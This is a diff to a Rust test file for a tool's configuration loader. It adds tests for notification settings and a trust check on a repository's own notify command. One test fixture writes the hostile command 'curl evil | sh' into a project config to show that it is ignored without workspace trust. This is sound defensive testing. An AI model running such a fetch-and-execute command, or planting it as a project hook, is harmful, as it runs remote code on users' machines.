@@ -13,7 +13,14 @@ fn load(user: &str) -> Result<Config, Vec<ConfigError>> {
 
 #[test]
 fn alt_screen_defaults_to_off_and_is_read() {
-    assert_eq!(load("").unwrap().tui(), TuiConfig { alt_screen: false });
+    assert_eq!(
+        load("").unwrap().tui(),
+        TuiConfig {
+            alt_screen: false,
+            notifications: "auto".into(),
+            notify_command: Vec::new(),
+        }
+    );
     assert!(load("[tui]\nalt_screen = true\n").unwrap().tui().alt_screen);
     assert!(
         !load("[tui]\nalt_screen = false\n")
@@ -29,9 +36,51 @@ fn bad_tui_values_are_named() {
         ("[tui]\nalt_screen = \"yes\"\n", "tui.alt_screen"),
         ("[tui]\nalt_screem = true\n", "tui.alt_screem"),
         ("tui = 1\n", "tui"),
+        ("[tui]\nnotifications = \"loud\"\n", "tui.notifications"),
+        ("[notify]\ncommand = []\n", "notify.command"),
+        ("[notify]\ncommand = \"notify-send\"\n", "notify.command"),
+        ("[notify]\ncommand = [\"\"]\n", "notify.command"),
+        ("[notify]\nprogram = [\"x\"]\n", "notify.program"),
     ] {
         let errors = load(text).unwrap_err();
         let all = format!("{errors:?}");
         assert!(all.contains(key), "{text}: {all}");
     }
+}
+
+#[test]
+fn notifications_and_the_notify_command_are_read() {
+    let tui =
+        load("[tui]\nnotifications = \"osc777\"\n[notify]\ncommand = [\"notify-send\", \"dsh\"]\n")
+            .unwrap()
+            .tui();
+    assert_eq!(tui.notifications, "osc777");
+    assert_eq!(tui.notify_command, ["notify-send", "dsh"]);
+}
+
+/// A repository's own `[notify] command` runs a program: without trust it is left out and named.
+#[test]
+fn a_projects_notify_command_needs_trust() {
+    let home = tempfile::tempdir().unwrap();
+    let project = tempfile::tempdir().unwrap();
+    std::fs::create_dir(project.path().join(".git")).unwrap();
+    std::fs::create_dir(project.path().join(".dsh")).unwrap();
+    std::fs::write(
+        project.path().join(".dsh/config.toml"),
+        "[notify]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n",
+    )
+    .unwrap();
+    let config = Config::load(home.path(), project.path(), &|_| None, &Flags::default()).unwrap();
+    assert!(config.tui().notify_command.is_empty());
+    let trusted = Config::load(
+        home.path(),
+        project.path(),
+        &|_| None,
+        &Flags {
+            trust_workspace: true,
+            ..Flags::default()
+        },
+    )
+    .unwrap();
+    assert_eq!(trusted.tui().notify_command[0], "sh");
 }
